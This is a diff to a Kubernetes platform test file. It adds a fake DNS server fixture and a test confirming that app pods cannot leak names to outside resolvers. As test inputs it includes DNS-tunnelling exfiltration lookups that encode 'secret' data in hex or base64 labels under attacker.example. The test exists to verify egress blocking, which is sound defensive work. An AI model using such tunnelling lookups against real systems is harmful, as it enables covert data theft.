@@ -135,3 +135,87 @@ async def test_an_app_reaches_the_platform_and_cluster_names_and_nothing_else(ku
     assert await inside(kubernetes, first, RESOLVE, "c2VjcmV0.attacker.example") == "unknown"
     for status in await cluster.apps():
         await cluster.remove(status.app)
+
+
+DNS = """
+import socket
+asked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+asked.bind(("", 5353))
+while True:
+    message, address = asked.recvfrom(4096)
+    place, labels = 12, []
+    while message[place]:
+        labels.append(message[place + 1 : place + 1 + message[place]].decode())
+        place += message[place] + 1
+    print(".".join(labels), flush=True)
+    cluster = labels[-1:] == ["local"]
+    wanted = message[place + 1 : place + 3] == b"\\0\\1" and not cluster
+    head = message[:2] + (b"\\x81\\x83" if cluster else b"\\x81\\x80") + b"\\0\\1"
+    head += (b"\\0\\1" if wanted else b"\\0\\0") + b"\\0\\0\\0\\0"
+    record = b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\1\\0\\4" + socket.inet_aton("203.0.113.20")
+    asked.sendto(head + message[12 : place + 5] + (record if wanted else b""), address)
+"""
+# A question of one's own making, past whatever the pod is set to.
+DIRECT = """
+import socket, sys
+asked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+asked.settimeout(3)
+asked.sendto(b"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6direct\\7example\\0\\0\\1\\0\\1", (sys.argv[1], 53))
+try:
+    asked.recv(4096)
+    print("answered")
+except OSError:
+    print("nothing")
+"""
+
+
+@pytest.fixture
+async def dns(kubernetes, owner):
+    """In place of the cluster's DNS, one that knows all the names of the internet; what it was asked."""
+    image = await owner.delivery.base()
+    pod = {
+        "apiVersion": "v1", "kind": "Pod",
+        "metadata": {"name": "test-dns", "namespace": "kube-system", "labels": {"k8s-app": "kube-dns"}},
+        "spec": {
+            "terminationGracePeriodSeconds": 0,
+            "containers": [{
+                "name": "main", "image": f"{image.repository}@{image.digest}", "command": ["python3", "-c", DNS],
+            }],
+        },
+    }  # fmt: skip
+
+    async def system(*arguments: str, text: str = "") -> str:
+        return await asyncio.to_thread(kubernetes.kubectl, "-n", "kube-system", *arguments, text=text)
+
+    await system("apply", "-f", "-", text=msgspec.json.encode(pod).decode())
+    await system("wait", "--for=condition=Ready", "pod/test-dns", "--timeout=60s")
+    await system("scale", "deployment/coredns", "--replicas=0")
+
+    async def seen() -> set[str]:
+        return set((await system("logs", "test-dns")).split())
+
+    yield seen
+    await system("delete", "pod", "test-dns")
+    await system("scale", "deployment/coredns", "--replicas=1")
+    await system("rollout", "status", "deployment/coredns", "--timeout=90s")
+
+
+async def test_a_name_that_an_app_looks_up_does_not_leave_unless_it_is_the_platforms(kubernetes, owner, control, dns):
+    status = await owner.cluster.apply(owner.workload("first", await owner.release("first")))
+    pod = status.actual[0].name
+    # Anybody else's names go out, by the pod's own settings and past them.
+    while await inside(kubernetes, control, RESOLVE, "control.attacker.example", "open") != PLATFORM:
+        pass
+    server = service(kubernetes, "kube-dns", "kube-system")
+    assert await inside(kubernetes, control, DIRECT, server, "open") == "answered"
+    before = await dns()
+    assert {"control.attacker.example", "direct.example"} <= before
+
+    tunnelled = f"{'6e6f742d666f722d796f75' * 2}.{'7365637265742d64617461' * 2}.attacker.example"
+    for name in ("www.example.com", tunnelled, "leak.platform.tt02.example.test", "cluster.local"):
+        assert await inside(kubernetes, pod, RESOLVE, name) == "unknown"
+    assert await inside(kubernetes, pod, DIRECT, server) == "nothing"
+    assert await dns() - before <= {name for name in await dns() if name.endswith(".svc.cluster.local")}
+
+    assert await inside(kubernetes, pod, RESOLVE, "platform.tt02.example.test") == PLATFORM
+    assert "platform.tt02.example.test" in await dns() - before
